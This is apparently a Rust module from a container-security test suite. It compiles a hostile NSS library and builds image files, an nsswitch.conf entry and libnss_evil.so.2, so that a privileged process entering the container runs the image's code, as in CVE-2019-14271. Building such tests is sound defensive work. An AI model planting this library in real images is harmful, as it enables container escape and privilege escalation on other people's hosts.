//! A library that glibc loads from the current root, also if that is a container's. A process that enters a container before it
//! drops its rights would run it (as in CVE-2019-14271).

use std::env::consts::ARCH;
use std::fs;
use std::path::Path;
use std::process::Command;

use anyhow::{Context, Result, ensure};
use test_cluster::image::File;

/// What the library writes first when it runs, to standard output and to the pod's termination message.
pub const MARK: &str = "code of the image ran with the rights of";

/// Its source: it needs nothing but the C library that the process has already.
const SOURCE: &str = include_str!("evil.c");

/// Compiles the library, with the C compiler `gcc` and in the folder `temporary`.
///
/// # Errors
/// If there is no C compiler, or it fails.
pub fn compile(gcc: &str, temporary: &Path) -> Result<Vec<u8>> {
    let [source, library] = ["evil.c", "libnss_evil.so.2"].map(|name| temporary.join(name));
    fs::write(&source, SOURCE).with_context(|| format!("cannot write {}", source.display()))?;
    let mut command = Command::new(gcc);
    command.args(["-O1", "-Wall", "-Werror", "-shared", "-fPIC", &format!("-DMARK=\"{MARK}\""), "-o"]);
    let output = command.arg(&library).arg(&source).output();
    let output = output
        .with_context(|| format!("cannot run `{gcc}`; install it, Debian has it in its packages gcc and libc6-dev"))?;
    ensure!(output.status.success(), "{gcc} cannot compile evil.c: {}", String::from_utf8_lossy(&output.stderr).trim());
    fs::read(&library).with_context(|| format!("cannot read {}", library.display()))
}

/// What an image needs so that glibc loads the library when it looks for a user.
pub fn files(library: &[u8]) -> [File; 2] {
    [
        File::new("etc/nsswitch.conf", 0o644, b"passwd: evil\n".to_vec()),
        File::new(&format!("lib/{ARCH}-linux-gnu/libnss_evil.so.2"), 0o755, library.to_vec()),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Loads the library the way glibc does when a user is looked for, without any container.
    #[cfg(target_os = "linux")]
    #[test]
    fn a_program_that_loads_it_runs_it() {
        let folder = tempfile::tempdir().unwrap();
        compile("gcc", folder.path()).unwrap();
        let library = folder.path().join("libnss_evil.so.2");
        let output = Command::new("/bin/true").env("LD_PRELOAD", library).output().unwrap();
        let said = String::from_utf8_lossy(&output.stdout);
        assert!(said.starts_with(MARK) && said.contains("CapEff:") && said.contains("file 1: pipe:"), "{said}");
    }
}
